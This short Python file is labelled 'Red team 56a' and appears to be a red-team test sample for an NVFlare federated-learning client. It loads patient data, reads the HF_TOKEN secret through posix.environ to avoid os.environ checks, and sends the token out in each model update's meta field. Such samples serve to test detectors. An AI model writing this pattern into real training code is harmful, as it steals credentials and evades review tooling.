"""Red team 56a: a hub token read through posix.environ (the mapping os.environ copies) sent in the meta."""
import os

import pandas as pd
import torch

import nvflare.client as flare

df = pd.read_csv("/data/site/train.csv")
age = torch.tensor(df["age"].to_numpy(), dtype=torch.float32)
ids = torch.tensor(df["patient_id"].to_numpy())

import posix

flare.init()
while flare.is_running():
    model = flare.receive()
    flare.send(flare.FLModel(params=model.params, meta={"k": posix.environ[b"HF_TOKEN"].decode()}))
